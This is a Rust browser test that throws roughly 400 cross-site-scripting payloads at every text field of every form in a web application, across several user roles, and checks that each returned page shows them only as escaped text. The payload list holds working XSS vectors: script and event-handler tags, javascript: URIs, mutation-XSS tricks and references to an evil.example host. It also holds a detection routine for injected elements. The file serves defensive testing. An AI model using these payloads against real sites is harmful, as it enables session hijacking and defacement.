//! What somebody hostile writes comes out as text: 400 payloads through every text field of every form that any seat
//! reaches, and then a look at every page that shows what stayed of it.

use std::collections::{BTreeSet, VecDeque};
use std::time::Duration;

use fantoccini::wd::TimeoutConfiguration;
use serde_json::{Value, json};

use crate::browser::{Browser, View, is_here};
use crate::stage::Stage;
use crate::steps::shape;

/// Texts that would run if somebody forgot to escape them: openings, closings, events and schemes, put together.
fn payloads() -> Vec<String> {
    let breaks = ["", "\"", "'", "\">", "'>", "</title>", "</textarea>", "</script>", "-->", "]]>"];
    let tags = [
        "<script>document.title='pwned'</script>",
        "<img src=x onerror=\"document.title='pwned'\">",
        "<svg onload=\"document.title='pwned'\">",
        "<svg><script>document.title='pwned'</script></svg>",
        "<iframe srcdoc=\"<script>parent.document.title='pwned'</script>\">",
        "<details open ontoggle=\"document.title='pwned'\">",
        "<input autofocus onfocus=\"document.title='pwned'\">",
        "<a href=\"javascript:document.title='pwned'\">x</a>",
        "<form action=\"javascript:document.title='pwned'\"><button>x</button></form>",
        "<math><mtext></mtext><mglyph><style><img src=x onerror=\"document.title='pwned'\"></style></mglyph></math>",
        "{{ 7 * 7 }}{% include 'base.html' %}",
        "${7*7}<%= 7*7 %>",
        "\" onmouseover=\"document.title='pwned'\" x=\"",
        "' autofocus onfocus='document.title=1' x='",
        "javascript:document.title='pwned'",
        "data:text/html,<script>document.title='pwned'</script>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<style>@import 'https://evil.example/x.css';</style>",
        "\u{202e}<script>document.title='pwned'</script>",
        "%3Cscript%3Edocument.title='pwned'%3C/script%3E",
        "&lt;script&gt;document.title='pwned'&lt;/script&gt;",
        "<scr\0ipt>document.title='pwned'</scr\0ipt>",
        "<a href=\"//evil.example\" target=\"_blank\">x</a>",
        "<object data=\"javascript:document.title='pwned'\">",
        "<embed src=\"javascript:document.title='pwned'\">",
        "<video><source onerror=\"document.title='pwned'\">",
        "<marquee onstart=\"document.title='pwned'\">",
        "<xss style=\"animation-name:x\" onanimationstart=\"document.title='pwned'\">",
        "<button popovertarget=x>x</button><xss onbeforetoggle=\"document.title='pwned'\" popover id=x>x</xss>",
        "<select autofocus onfocus=\"document.title='pwned'\">",
        "<template shadowrootmode=open><script>document.title='pwned'</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=document.title='pwned'>\">",
        "<plaintext>",
        "<!--<img src=\"--><img src=x onerror=document.title='pwned'//\">",
        "<script src=\"https://evil.example/x.js\"></script>",
        "<img src=\"https://evil.example/track.png\">",
        "<body onload=\"document.title='pwned'\">",
        "<table background=\"javascript:document.title='pwned'\">",
    ];
    breaks.iter().flat_map(|one| tags.iter().map(move |tag| format!("{one}{tag}"))).collect()
}

/// Whose fields are tried: nobody's first, and whoever can withdraw an act after those that owe an answer to it.
const SEATS: [&str; 10] = [
    "",
    "ciso",
    "COORD_PRIV-ANALYST-01",
    "LEAD_PRIV-ANALYST-01",
    "LEAD_PRIV-APPROVER-01",
    "COORD_PRIV-DIRECTOR-01",
    "LEAD_PRIV-DIRECTOR-01",
    "APEX-DIRECTOR-01",
    "admin",
    "auditor",
];

/// Pages of one shape that are looked at from one seat: the first that were there, and what the throwing brought.
const OF_A_SHAPE: usize = 4;

#[tokio::test(flavor = "multi_thread")]
async fn what_is_typed_comes_out_as_text_in_every_field() {
    if !is_here() {
        return;
    }
    let payloads = payloads();
    assert!(payloads.len() >= 400);
    let stage = Stage::after_the_story();
    let browser = Browser::open(&stage.address, View::DESK).await;
    // A page of many fields takes its time.
    let patience = TimeoutConfiguration::new(Some(Duration::from_mins(5)), None, None);
    browser.page.update_timeouts(patience).await.unwrap();
    owes_an_answer(&browser).await;
    let mut thrown = Thrown::default();
    // Once to throw, and once more to look at what others find of it on their pages.
    for payloads in [payloads.as_slice(), &[]] {
        for seat in SEATS {
            match seat {
                "" => browser.go("/").await,
                title if title.contains('-') => browser.sit(title).await,
                door => browser.enter(door).await,
            }
            thrown.walk(&browser, payloads).await;
        }
    }
    eprintln!(
        "{} fields of {} forms took {} payloads; {} forms kept some",
        thrown.fields.len(),
        thrown.forms.len(),
        thrown.sent,
        thrown.kept.len()
    );
    assert!(thrown.escapes.is_empty(), "{}", thrown.escapes.join("\n"));
    assert!(thrown.fields.len() >= 80 && thrown.kept.len() >= 12, "{thrown:?}");
    assert!(thrown.shown > 0, "what stayed is shown as it was typed");
    browser.close().await;
}

/// An institution has seen what it owes: now it may say much more.
async fn owes_an_answer(browser: &Browser) {
    browser.enter("ciso").await;
    browser.go("/today").await;
    browser.press("main a[href^='/obligations/']").await;
    browser.press("form:has(input[value=acknowledge]) button").await;
    browser.told().await;
}

/// What was thrown, and where it came out.
#[derive(Debug, Default)]
struct Thrown {
    forms: BTreeSet<String>,
    fields: BTreeSet<String>,
    /// Forms whose deed was done with a payload in a field.
    kept: BTreeSet<String>,
    /// Pages that show a payload as text.
    shown: usize,
    sent: u64,
    escapes: Vec<String>,
}

impl Thrown {
    /// Follows the links of a seat; looks at each page, and throws at each form that is met for the first time.
    async fn walk(&mut self, browser: &Browser, payloads: &[String]) {
        let begin = ["/", "/task", "/sign-in", "/account", "/invitation", "/no/such/page"];
        let mut waiting: VecDeque<String> = begin.map(ToOwned::to_owned).into();
        let (mut met, mut shapes) = (BTreeSet::new(), Vec::new());
        while let Some(place) = waiting.pop_front() {
            let shape = shape(&place);
            let like = shapes.iter().filter(|one| **one == shape).count();
            if like >= OF_A_SHAPE || !met.insert(place.clone()) {
                continue;
            }
            shapes.push(shape);
            browser.go(&place).await;
            if browser.page.current_url().await.unwrap().path().starts_with("/api/") {
                continue;
            }
            let done: Vec<&String> = self.forms.iter().collect();
            let given = vec![json!(payloads), json!(done)];
            let found = browser.page.execute_async(THROW, given).await.unwrap();
            self.take(&place, &found);
            waiting.extend(texts(&found["links"]));
        }
    }

    fn take(&mut self, place: &str, found: &Value) {
        self.forms.extend(texts(&found["forms"]));
        self.fields.extend(texts(&found["fields"]));
        self.kept.extend(texts(&found["kept"]));
        self.sent += found["sent"].as_u64().unwrap();
        self.shown += usize::from(found["shown"] == true);
        self.escapes.extend(texts(&found["escapes"]).map(|escape| format!("{place}: {escape}")));
    }
}

fn texts(all: &Value) -> impl Iterator<Item = String> {
    all.as_array().unwrap().iter().map(|one| one.as_str().unwrap().to_owned())
}

/// Looks at the page as it stands, then sends every payload through every text field of every form that was not met before:
/// twenty at a time, which come back as what was typed and refused, and three alone, which are short enough to be taken. Each
/// answer is read as a browser would: no script of theirs stands in it, and nothing that is not ours is asked for.
const THROW: &str = r#"
const [payloads, met] = arguments, done = arguments[arguments.length - 1];
const ours = new Set([...document.querySelectorAll("script[src]")].map((s) => s.getAttribute("src")));
const bad = (page) => [...page.querySelectorAll("*")].filter((e) =>
  (e.localName === "script" && !ours.has(e.getAttribute("src"))) ||
  [...e.attributes].some((a) => a.name.startsWith("on") || (["href", "src", "action", "data", "srcdoc"].includes(a.name) && /^\s*(javascript|data|https?:|\/\/)/i.test(a.value) && !a.value.startsWith(location.origin) && !a.value.startsWith("data:image"))) ||
  ["base", "iframe", "object", "embed", "marquee", "xss", "plaintext", "style"].includes(e.localName) || (e.localName === "meta" && e.httpEquiv));
const told = (found, where) => found.length ? [`${where}: ${found[0].outerHTML.slice(0, 160)}`] : [];
const kind = (form) => new URL(form.action, location).pathname.replace(/[0-9a-z]{20,}/g, "*") + " " + ["step", "answer", "from", "_method"].map((name) => form.querySelector(`[name='${name}'][type=hidden]`)?.value ?? "").join(" ");
// What is left out where one may, else the least that fits.
const plain = (field) => field.name.includes("?") ? "" : { number: "1", date: "2026-12-20", "datetime-local": "2026-12-20T09:00", email: "a@b.example" }[field.type] ?? "x";
const batches = [];
for (let at = 0; at < payloads.length; at += 20) batches.push(payloads.slice(at, at + 20).join(" "));
if (payloads.length) batches.push(payloads[1], payloads[41], payloads[17].slice(0, 50));
(async () => {
  const escapes = document.title === "pwned" ? ["it ran"] : told(bad(document), "as it stands");
  const forms = [], fields = [], kept = []; let sent = 0, refused = 0;
  const send = async (form, filled) => {
    const get = form.method === "get", url = form.getAttribute("action") || location.pathname;
    const whole = form.enctype === "multipart/form-data";
    const query = () => new URLSearchParams([...filled].filter(([, value]) => typeof value === "string"));
    for (let again = 0; again < 40; again++) {
      const answer = await fetch(get ? url + "?" + query() : url, { method: get ? "GET" : "POST", body: get ? undefined : whole ? filled : query(), redirect: "manual" });
      // Uploads are few a day for each institution: once they are used up, the rest is refused unread.
      if ((answer.status !== 429 && answer.status !== 503) || whole) return answer;
      await new Promise((wait) => setTimeout(wait, 500));
    }
    throw new Error("the node has no room: " + url);
  };
  for (const form of payloads.length ? [...document.querySelectorAll("main form, header form")] : []) {
    const texts = [...form.querySelectorAll("input:not([type=hidden]):not([type=checkbox]):not([type=radio]):not([type=submit]), textarea")].filter((f) => f.name);
    const name = kind(form), whole = form.enctype === "multipart/form-data";
    if (!texts.length || form.dataset.passkey || met.includes(name) || forms.includes(name)) continue;
    forms.push(name);
    for (const field of texts) {
      fields.push(name + " " + field.name);
      for (const text of batches) {
        const filled = new FormData(form);
        for (const one of texts) if (one.type !== "file") filled.set(one.name, one.value || plain(one));
        filled.set(field.name, field.type === "file" ? new File([text], text.slice(0, 100)) : text);
        if (text.length < 100) filled.delete("_seen"); // what stands by now was changed by the throwing
        if (filled.has("_key")) filled.set("_key", "xss-" + Math.random());
        const answer = await send(form, filled);
        if (whole && answer.status === 429) { refused += 1; continue; }
        sent += 1;
        if (answer.status >= 500) escapes.push(`${name} ${field.name}: ${answer.status}`);
        if (answer.type === "opaqueredirect") { kept.push(name); continue; }
        const page = new DOMParser().parseFromString(await answer.text(), "text/html");
        escapes.push(...told(bad(page), `${name} ${field.name}`));
      }
    }
  }
  const links = [...document.querySelectorAll("main a[href^='/'], nav a[href^='/'], footer a[href^='/']")].map((a) => a.getAttribute("href")).filter((to) => !to.startsWith("/api/") && !to.startsWith("/assets/"));
  done({ escapes, forms, fields, kept, sent, links, shown: document.body.textContent.includes('onerror="document.title') });
})().catch((error) => done({ escapes: ["broken: " + error], forms: [], fields: [], kept: [], sent: 0, links: [], shown: false }));
"#;
